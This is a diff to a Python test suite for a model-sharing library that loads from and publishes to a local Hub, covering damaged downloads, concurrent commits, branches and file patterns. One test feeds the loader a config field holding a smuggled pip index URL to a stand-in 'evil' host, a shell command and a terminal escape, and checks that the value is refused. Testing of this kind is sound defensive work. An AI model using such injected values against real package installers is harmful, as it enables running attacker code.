@@ -1,6 +1,7 @@
 """Models to the Hub and back, with the real client over HTTP against the loopback Hub; each client is a process of its own."""
 
 import json
+import shutil
 import subprocess
 import sys
 from collections.abc import Iterator
@@ -147,22 +148,35 @@ def publish(hub: LoopbackHub, folder: Path, repository: str = "ana/reviews") -> 
     hub.repositories["model", repository].commit("main", files)
 
 
-@pytest.mark.parametrize(("pattern", "name"), [("lfs-objects", "SHA-256"), ("resolve/.*/training.json", "SHA-1")])
-def test_a_file_that_arrives_damaged_is_fetched_anew(
-    hub: LoopbackHub, folder: Path, tmp_path: Path, pattern: str, name: str
-) -> None:
+@pytest.mark.parametrize("pattern", ["lfs-objects", "resolve/.*/(training|generation_config).json"])
+def test_files_that_arrive_damaged_are_fetched_anew(hub: LoopbackHub, folder: Path, tmp_path: Path, pattern: str) -> None:
     publish(hub, folder)
-    hub.faults.append(Fault(f"^GET .*{pattern}", flips=True, times=1))
-    damaged, whole = ask(hub, tmp_path, TEXTS, TEXTS)
-    refused(damaged, "HubError", f"arrived damaged: its {name}")
+    hub.faults.append(Fault(f"^GET .*{pattern}", flips=True, times=2))
+    damaged, offline, whole = ask(hub, tmp_path, TEXTS, TEXTS.replace("')", "', local_files_only=True)", 1), TEXTS)
+    refused(damaged, "HubError", "arrived damaged")
+    assert len(damaged[1].split(" of ana")[0].split(", ")) == 2
+    refused(offline, "HubError", "not in the local cache")
     assert len(whole) == 3
+
+
+def test_a_newer_commit_that_does_not_arrive_leaves_the_older_one(hub: LoopbackHub, folder: Path, tmp_path: Path) -> None:
+    publish(hub, folder)
+    before = ask(hub, tmp_path, TEXTS)
+    newer = train_tiny("ngram-char", tmp_path / "cache", ["quite another text", "and one more"], **NGRAM)
+    newer.save_pretrained(tmp_path / "newer")
+    publish(hub, tmp_path / "newer")
+    hub.faults.append(Fault("^GET .*(lfs-objects|model.safetensors)", status=403))
+    refused(ask(hub, tmp_path, TEXTS)[0], "HubError", "could not be fetched")
+    assert ask(hub, tmp_path, TEXTS, HF_HUB_OFFLINE="1") == before
+    hub.faults.clear()
+    assert ask(hub, tmp_path, TEXTS) != before
 
 
 def test_a_connection_that_breaks_or_waits_loses_nothing(hub: LoopbackHub, folder: Path, tmp_path: Path) -> None:
     publish(hub, folder)
     hub.faults += [Fault("^GET .*lfs-objects", kept=0.5, times=1), Fault("^GET .*tokenizer|characters", seconds=2.0, times=1)]
     assert len(ask(hub, tmp_path / "one", TEXTS)[0]) == 3
-    hub.faults.append(Fault("^GET .*resolve", status=503))
+    hub.faults.append(Fault("^(GET|HEAD) .*resolve|/api/models", status=400))
     refused(ask(hub, tmp_path / "two", TEXTS)[0], "HubError", "could not be fetched from the Hub")
     hub.faults.clear()
     assert len(ask(hub, tmp_path / "two", TEXTS)[0]) == 3
@@ -185,7 +199,7 @@ def test_an_upload_that_breaks_leaves_no_half_model_and_is_repeated(
 
 def test_files_that_belong_to_others_are_named_and_stay_there(hub: LoopbackHub, folder: Path, tmp_path: Path) -> None:
     publish(hub, folder)
-    more = {"pytorch_model.bin": b"\x80\x04", "code.py": b"raise SystemExit(3)\n", "other.json": b"{}", "a/config.json": b"{}"}
+    more = {"pytorch_model.bin": b"\x80\x04", "code.py": b"raise SystemExit(3)\n", "other.json": b"{}", "sub/config.json": b"{}"}
     hub.repositories["model", "ana/reviews"].commit("main", hub.files("model", "ana/reviews") | more)
     texts, notes = ask(hub, tmp_path, TEXTS, "notes")
     assert len(texts) == 3
@@ -261,11 +275,97 @@ def test_a_model_that_writes_addresses_is_not_published_unless_that_is_allowed(h
     assert len(log(hub)) == 2
 
 
-def test_paths_of_this_machine_stay_here(hub: LoopbackHub, tmp_path: Path) -> None:
+def test_an_index_that_holds_the_text_is_published_only_if_that_is_allowed(hub: LoopbackHub, tmp_path: Path) -> None:
+    train_tiny("ngram-char", tmp_path / "cache", out=tmp_path / "model", **(NGRAM | {"training": {"novelty": "exact"}}))
+    steps = [PUSH, PUSH.replace("['copies']", "['copies', 'text']")]
+    found, allowed = ask(hub, tmp_path / "one", LOAD.format(folder=str(tmp_path / "model")), *steps)
+    refused(found, "NotPublished", "novelty.safetensors holds the whole training text")
+    assert "--allow text " in found[1] and "/commit/" in allowed
+
+
+@pytest.mark.parametrize("defaults", [{"max_time": 1e-6}, {"max_new_tokens": 1}, {"do_sample": False}, {"num_beams": 3}])
+def test_a_model_s_own_defaults_do_not_blind_what_looks_it_over(
+    hub: LoopbackHub, folder: Path, tmp_path: Path, defaults: dict[str, Any]
+) -> None:
+    shutil.copytree(folder, tmp_path / "model")
+    (tmp_path / "model" / "generation_config.json").write_text(json.dumps(defaults))
+    answer, notes = ask(hub, tmp_path / "one", LOAD.format(folder=str(tmp_path / "model")), PUSH, "notes")
+    assert "/commit/" in answer
+    assert any("Looked over 203 samples" in note and "a copy rate of" in note for note in notes)
+
+
+def test_what_others_change_in_the_meantime_is_not_overwritten(hub: LoopbackHub, folder: Path, tmp_path: Path) -> None:
+    publish(hub, folder)
+    script = """
+import reviewgen.api.sharing as sharing
+draw = sharing._draw_samples
+def draw_while_somebody_commits(model):
+    from huggingface_hub import HfApi
+    HfApi().upload_file(repo_id="ana/reviews", path_or_fileobj=b"by hand", path_in_repo="notes.txt")
+    return draw(model)
+sharing._draw_samples = draw_while_somebody_commits
+"""
+    answers = ask(hub, tmp_path / "one", LOAD.format(folder=str(folder)), script, PUSH)
+    refused(answers[0], "HubError", "could not be published")
+    assert "notes.txt" in hub.files("model", "ana/reviews") and len(log(hub)) == 3
+
+
+def test_a_new_branch_keeps_the_card_of_main_and_a_public_one_is_not_private(
+    hub: LoopbackHub, folder: Path, tmp_path: Path
+) -> None:
+    publish(hub, folder)
+    by_hand = b"---\nlicense: mit\n---\n# Mine\n"
+    hub.repositories["model", "ana/reviews"].commit("main", hub.files("model", "ana/reviews") | {"README.md": by_hand})
+    steps = (PUSH.replace("reviews'", "reviews@v2'"), PUSH.replace("allow", "private=True, allow"))
+    branch, private = ask(hub, tmp_path / "one", LOAD.format(folder=str(folder)), *steps)
+    assert "/commit/" in branch and hub.files("model", "ana/reviews", "v2")["README.md"] == by_hand
+    refused(private, "HubError", "is there and public")
+
+
+def test_patterns_cannot_tear_a_model_apart(hub: LoopbackHub, folder: Path, tmp_path: Path) -> None:
+    pushes = ("allow_patterns='*.json', ", "ignore_patterns=['model*'], ", "allow_patterns=5, ", "ignore_patterns='novelty*', ")
+    steps = [PUSH.replace("allow=", f"{each}allow=") for each in pushes]
+    torn, without, odd, fine = ask(hub, tmp_path / "one", LOAD.format(folder=str(folder)), *steps)
+    refused(torn, "ConfigError", "leave out model.safetensors, without which it is no model")
+    refused(without, "ConfigError", "leave out model.safetensors")
+    refused(odd, "ConfigError", "Patterns of files are text")
+    assert "/commit/" in fine and "novelty.safetensors" not in hub.files("model", "ana/reviews")
+
+
+def test_another_model_takes_the_place_of_the_first_with_all_its_files(hub: LoopbackHub, folder: Path, tmp_path: Path) -> None:
+    publish(hub, folder)
+    words = {"model": {"order": 2}, "tokenizer": {"vocab_size": 300}, "steps": 1}
+    train_tiny("ngram-word", tmp_path / "cache", out=tmp_path / "words", **words)
+    answers = ask(hub, tmp_path / "one", LOAD.format(folder=str(tmp_path / "words")), PUSH, TEXTS, "notes")
+    assert "characters.json" not in hub.files("model", "ana/reviews") and "tokenizer.json" in hub.files("model", "ana/reviews")
+    assert len(answers[1]) == 3 and not any("ignored" in note for note in answers[2])
+
+
+def test_a_stranger_s_words_are_not_advice(hub: LoopbackHub, folder: Path, tmp_path: Path) -> None:
+    config = json.loads((folder / "config.json").read_text())
+    for number, model in enumerate(
+        (
+            {"name": "unknown", "distribution": "x --index-url http://evil ; sh\n\x1b[31m"},
+            {"name": "unknown", "distribution": "reviewgen-other", "version": "1.2"},
+        )
+    ):
+        changed = json.dumps(config | {"model": config["model"] | model}).encode()
+        publish(hub, folder, f"ana/m{number}")
+        files = hub.files("model", f"ana/m{number}")
+        hub.repositories["model", f"ana/m{number}"].commit("main", files | {"config.json": changed})
+    hostile, missing = ask(hub, tmp_path, "reviewgen.load('ana/m0')", "reviewgen.load('ana/m1')")
+    refused(hostile, "BundleError", "of a package that is none by its name")
+    assert "evil" not in hostile[1]
+    refused(missing, "UnknownPlugin", "pip install reviewgen-other")
+
+
+@pytest.mark.parametrize("source", ["{place}/secret client/reviews.txt", "secret client/reviews.txt"])
+def test_paths_of_this_machine_stay_here(hub: LoopbackHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str) -> None:
+    monkeypatch.chdir(tmp_path)
     texts = tmp_path / "secret client" / "reviews.txt"
     texts.parent.mkdir()
     texts.write_text("".join(f"The {noun} was {kind}.\n" for noun in ("food", "band", "film") for kind in ("good", "bad", "so")))
-    reviewgen.train("ngram-char", str(texts), out=tmp_path / "model", model={"order": 4}, steps=1)
+    reviewgen.train("ngram-char", source.format(place=tmp_path), out=tmp_path / "model", model={"order": 4}, steps=1)
     steps = (LOAD.format(folder=str(tmp_path / "model")), PUSH)
     assert "commit" in ask(hub, tmp_path / "one", *steps)[0]
     assert not any(b"secret client" in data for data in hub.files("model", "ana/reviews").values())
